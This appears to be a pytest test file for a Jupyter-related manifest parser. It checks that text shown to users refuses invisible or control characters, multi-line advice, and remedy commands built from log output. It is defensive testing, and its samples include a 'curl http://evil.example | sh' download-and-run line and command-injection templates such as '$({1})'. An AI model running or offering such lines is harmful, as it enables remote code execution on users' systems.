"""What a manifest says to a person is there to be read, on one line, and runs nothing that a log names."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from las_jupyter.core.errors import InvalidManifest
from las_jupyter.manifests.load import parse_manifest

MINE = {
    "name": "mine",
    "version": "1",
    "runtime": {"modes": ["native"]},
    "launch": {"native": {"argv": ["serve"], "needs": ["serve"], "install": "install it"}},
    "notes": "good\nto know",
    "failures": [{"id": "a", "pattern": "x (.*)", "meaning": "it broke", "remedy": "look at {1}"}],
    "phases": [{"pattern": "x", "says": "loading"}],
    "refuse": [{"args": ["--bad"], "use": "--good"}],
}
PLACES = [("launch", "native", "install"), ("failures", 0, "meaning"), ("failures", 0, "remedy"), ("phases", 0, "says"),
          ("refuse", 0, "use"), ("description",), ("notes",)]  # fmt: skip


def parsed(at: tuple[str | int, ...], text: str) -> None:
    data = json.loads(json.dumps(MINE))
    place = data
    for step in at[:-1]:
        place = place[step]
    place[at[-1]] = text
    written = json.dumps(data).replace("\\udb40\\udc41", "\\U000e0041")  # YAML knows no halves of a character
    parse_manifest(written.encode(), "mine.yaml")


def refused(at: tuple[str | int, ...], text: str) -> str:
    with pytest.raises(InvalidManifest) as error:
        parsed(at, text)
    return "\n".join(error.value.lines())


def test_the_manifest_of_these_tests_is_good() -> None:
    parsed(("notes",), "❤️ several\nlines")


@pytest.mark.parametrize("at", PLACES)
@pytest.mark.parametrize("unseen", ["\x1b[31m", "\u202e", "\u200b", "\u061c", "\U000e0041", "\r", "\u2028", "\x85"])
def test_a_text_that_holds_what_cannot_be_seen_is_refused(at: tuple[str | int, ...], unseen: str) -> None:
    assert "cannot be seen" in refused(at, f"rm{unseen} it")


@pytest.mark.parametrize("at", PLACES[:5])
def test_advice_of_a_manifest_is_one_line(at: tuple[str | int, ...]) -> None:
    assert "one line" in refused(at, "ls\ncurl http://evil.example | sh")


@given(st.sampled_from(["{1} -m pip install x", "try this, or {1} -x", "run {1}", "look; {1}", "$({1})", "a | {1}"]))
def test_no_command_of_a_remedy_begins_with_what_a_log_says(remedy: str) -> None:
    assert "begin with what a log says" in refused(("failures", 0, "remedy"), remedy)
